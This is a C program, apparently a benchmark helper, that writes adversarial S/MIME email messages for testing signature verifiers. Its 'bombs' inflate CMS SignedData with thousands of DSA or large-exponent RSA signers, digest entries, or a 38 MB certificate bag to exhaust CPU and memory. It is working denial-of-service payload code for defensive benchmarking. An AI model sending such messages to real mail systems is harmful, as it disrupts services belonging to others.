/*
 * bombs.c — the adversarial inbound messages of contrib/bench/adversarial.sh
 * (issue 11): signatures that cost a naive verifier seconds of CPU or
 * hundreds of MB, none needing a trusted certificate.
 *
 *   bombs DIR BOB.crt BOB.key
 *
 * writes into DIR one message per bomb, each a multipart/signed from
 * bob@partner.example to alice@org.example whose signature is a real one
 * (by bob, or by a key made here) with one SignedData member repeated:
 *
 *   dsa-signers.eml      2,000 SignerInfos by a DSA key
 *   rsa-exponent.eml     250 SignerInfos by an RSA key with a 256-bit exponent
 *   digest-algs.eml      16,000 digestAlgorithms entries
 *   cert-bag.eml         4,000 certificates in the bag
 *   cert-bag-38mb.eml    a 38 MB certificate bag
 *   control-1mb.eml      an honest 1 MB signed message (for comparison)
 *
 * Build: cc -O2 -o bombs bombs.c $(pkg-config --cflags --libs libcrypto)
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/bio.h>
#include <openssl/cms.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/rsa.h>
#include <openssl/x509.h>

struct bytes {
	unsigned char *p;
	size_t n, cap;
};

static void
die(const char *what)
{
	fprintf(stderr, "bombs: %s\n", what);
	exit(1);
}

static void
put(struct bytes *b, const void *p, size_t n)
{
	if (b->n + n > b->cap) {
		b->cap = (b->n + n) * 2 + 64;
		if ((b->p = realloc(b->p, b->cap)) == NULL)
			die("out of memory");
	}
	memcpy(b->p + b->n, p, n);
	b->n += n;
}

static size_t
hdr(const unsigned char *p, size_t *len)
{
	size_t h = 2, l = p[1];

	if (l & 0x80) {
		size_t k = l & 0x7f;

		l = 0;
		for (size_t i = 0; i < k; i++)
			l = (l << 8) | p[2 + i];
		h += k;
	}
	*len = l;
	return h;
}

static void
tl(struct bytes *b, unsigned char tag, size_t len)
{
	unsigned char h[6] = { tag, 0x84, (unsigned char)(len >> 24), (unsigned char)(len >> 16),
		(unsigned char)(len >> 8), (unsigned char)len };

	put(b, h, 6);
}

enum member { M_DIGESTS, M_CERTS, M_SIGNERS };

/* The SignedData in der with one member's contents repeated times. */
static struct bytes
inflate(const unsigned char *der, enum member which, size_t times)
{
	const unsigned char *ci, *sd, *m, *end;
	size_t l, h, oidlen, sets = 0, nsets = 0;
	struct bytes body = { 0 }, out = { 0 }, inner = { 0 };

	h = hdr(der, &l);
	ci = der + h;
	oidlen = hdr(ci, &l) + l;
	h = hdr(ci + oidlen, &l);
	sd = ci + oidlen + h;
	h = hdr(sd, &l);
	m = sd + h;
	end = m + l;
	for (const unsigned char *q = m; q < end; q += hdr(q, &l) + l)
		nsets += *q == 0x31;
	while (m < end) {
		size_t mh = hdr(m, &l);

		sets += *m == 0x31;
		if ((which == M_DIGESTS && *m == 0x31 && sets == 1) ||
		    (which == M_CERTS && *m == 0xa0) ||
		    (which == M_SIGNERS && *m == 0x31 && sets == nsets)) {
			tl(&body, *m, l * times);
			for (size_t i = 0; i < times; i++)
				put(&body, m + mh, l);
		} else {
			put(&body, m, mh + l);
		}
		m += mh + l;
	}
	tl(&inner, 0x30, body.n);
	put(&inner, body.p, body.n);
	body.n = 0;
	tl(&body, 0xa0, inner.n);
	put(&body, inner.p, inner.n);
	tl(&out, 0x30, oidlen + body.n);
	put(&out, ci, oidlen);
	put(&out, body.p, body.n);
	free(body.p);
	free(inner.p);
	return out;
}

static const char text_part[] = "Content-Type: text/plain; charset=us-ascii\r\n\r\n"
				"Hello Alice, this signature is not what it seems.\r\n";

static struct bytes
sign(X509 *cert, EVP_PKEY *key, const void *content, size_t n)
{
	BIO *in = BIO_new_mem_buf(content, (int)n);
	CMS_ContentInfo *cms = CMS_sign(cert, key, NULL, in, CMS_BINARY | CMS_DETACHED);
	unsigned char *der = NULL;
	struct bytes b = { 0 };
	int len;

	if (cms == NULL || (len = i2d_CMS_ContentInfo(cms, &der)) <= 0)
		die("CMS_sign failed");
	put(&b, der, (size_t)len);
	OPENSSL_free(der);
	CMS_ContentInfo_free(cms);
	BIO_free(in);
	return b;
}

/* DIR/NAME: the signed part plus the signature in base64. */
static void
write_message(const char *dir, const char *name, const void *part, size_t partlen,
    const struct bytes *sig)
{
	char path[4096];
	FILE *f;
	BIO *b64, *file;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if ((f = fopen(path, "wb")) == NULL)
		die("cannot write a message");
	fprintf(f, "From: Bob <bob@partner.example>\r\nTo: Alice <alice@org.example>\r\n"
	    "Subject: %s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/signed; "
	    "protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"bomb\"\r\n"
	    "\r\n--bomb\r\n", name);
	fwrite(part, 1, partlen, f);
	fprintf(f, "\r\n--bomb\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n");
	fflush(f);
	file = BIO_new_fp(f, BIO_NOCLOSE);
	b64 = BIO_new(BIO_f_base64());
	BIO_push(b64, file);
	BIO_write(b64, sig->p, (int)sig->n);
	(void)BIO_flush(b64);
	BIO_free_all(b64);
	fprintf(f, "--bomb--\r\n");
	fclose(f);
}

static X509 *
self_signed(EVP_PKEY *key)
{
	X509 *x = X509_new();

	X509_set_version(x, 2);
	ASN1_INTEGER_set(X509_get_serialNumber(x), 42);
	X509_NAME_add_entry_by_txt(X509_get_subject_name(x), "CN", MBSTRING_ASC,
	    (const unsigned char *)"bomb", -1, -1, 0);
	X509_set_issuer_name(x, X509_get_subject_name(x));
	X509_gmtime_adj(X509_getm_notBefore(x), -86400);
	X509_gmtime_adj(X509_getm_notAfter(x), 86400 * 365);
	X509_set_pubkey(x, key);
	if (!X509_sign(x, key, EVP_sha256()))
		die("X509_sign failed");
	return x;
}

static EVP_PKEY *
dsa_key(void)
{
	EVP_PKEY_CTX *pc = EVP_PKEY_CTX_new_from_name(NULL, "DSA", NULL), *kc;
	EVP_PKEY *params = NULL, *k = NULL;

	if (pc == NULL || EVP_PKEY_paramgen_init(pc) != 1 ||
	    EVP_PKEY_CTX_set_dsa_paramgen_bits(pc, 2048) != 1 || EVP_PKEY_paramgen(pc, &params) != 1 ||
	    (kc = EVP_PKEY_CTX_new_from_pkey(NULL, params, NULL)) == NULL ||
	    EVP_PKEY_keygen_init(kc) != 1 || EVP_PKEY_keygen(kc, &k) != 1)
		die("DSA key generation failed");
	EVP_PKEY_CTX_free(kc);
	EVP_PKEY_CTX_free(pc);
	EVP_PKEY_free(params);
	return k;
}

static EVP_PKEY *
rsa_big_exponent(void)
{
	EVP_PKEY_CTX *c = EVP_PKEY_CTX_new_from_name(NULL, "RSA", NULL);
	BIGNUM *e = BN_new();
	EVP_PKEY *k = NULL;

	if (c == NULL || e == NULL || !BN_rand(e, 256, BN_RAND_TOP_ONE, BN_RAND_BOTTOM_ODD) ||
	    EVP_PKEY_keygen_init(c) != 1 || EVP_PKEY_CTX_set_rsa_keygen_bits(c, 3072) != 1 ||
	    EVP_PKEY_CTX_set1_rsa_keygen_pubexp(c, e) != 1 || EVP_PKEY_keygen(c, &k) != 1)
		die("RSA key generation with a large exponent failed");
	BN_free(e);
	EVP_PKEY_CTX_free(c);
	return k;
}

int
main(int argc, char **argv)
{
	FILE *f;
	X509 *bob, *x;
	EVP_PKEY *bobkey, *k;
	struct bytes sig, big, part = { 0 };

	if (argc != 4)
		die("usage: bombs DIR BOB.crt BOB.key");
	if ((f = fopen(argv[2], "r")) == NULL || (bob = PEM_read_X509(f, NULL, NULL, NULL)) == NULL)
		die("cannot read bob's certificate");
	fclose(f);
	if ((f = fopen(argv[3], "r")) == NULL ||
	    (bobkey = PEM_read_PrivateKey(f, NULL, NULL, NULL)) == NULL)
		die("cannot read bob's key");
	fclose(f);

	k = dsa_key();
	x = self_signed(k);
	sig = sign(x, k, text_part, sizeof(text_part) - 1);
	big = inflate(sig.p, M_SIGNERS, 2000);
	write_message(argv[1], "dsa-signers.eml", text_part, sizeof(text_part) - 1, &big);
	free(sig.p), free(big.p), X509_free(x), EVP_PKEY_free(k);

	k = rsa_big_exponent();
	x = self_signed(k);
	sig = sign(x, k, text_part, sizeof(text_part) - 1);
	big = inflate(sig.p, M_SIGNERS, 250);
	write_message(argv[1], "rsa-exponent.eml", text_part, sizeof(text_part) - 1, &big);
	free(sig.p), free(big.p), X509_free(x), EVP_PKEY_free(k);

	sig = sign(bob, bobkey, text_part, sizeof(text_part) - 1);
	big = inflate(sig.p, M_DIGESTS, 16000);
	write_message(argv[1], "digest-algs.eml", text_part, sizeof(text_part) - 1, &big);
	free(big.p);
	big = inflate(sig.p, M_CERTS, 2000); /* bob + intermediate each time */
	write_message(argv[1], "cert-bag.eml", text_part, sizeof(text_part) - 1, &big);
	free(big.p);
	big = inflate(sig.p, M_CERTS, 38u * 1024 * 1024 / 1900);
	write_message(argv[1], "cert-bag-38mb.eml", text_part, sizeof(text_part) - 1, &big);
	free(big.p), free(sig.p);

	/* the control: an honest 1 MB text, signed */
	put(&part, "Content-Type: text/plain; charset=us-ascii\r\n\r\n", 46);
	while (part.n < 1024 * 1024)
		put(&part, "All work and no play makes Jack a dull boy, all work and no play.\r\n", 67);
	sig = sign(bob, bobkey, part.p, part.n);
	write_message(argv[1], "control-1mb.eml", part.p, part.n, &sig);
	free(sig.p), free(part.p);
	X509_free(bob);
	EVP_PKEY_free(bobkey);
	return 0;
}
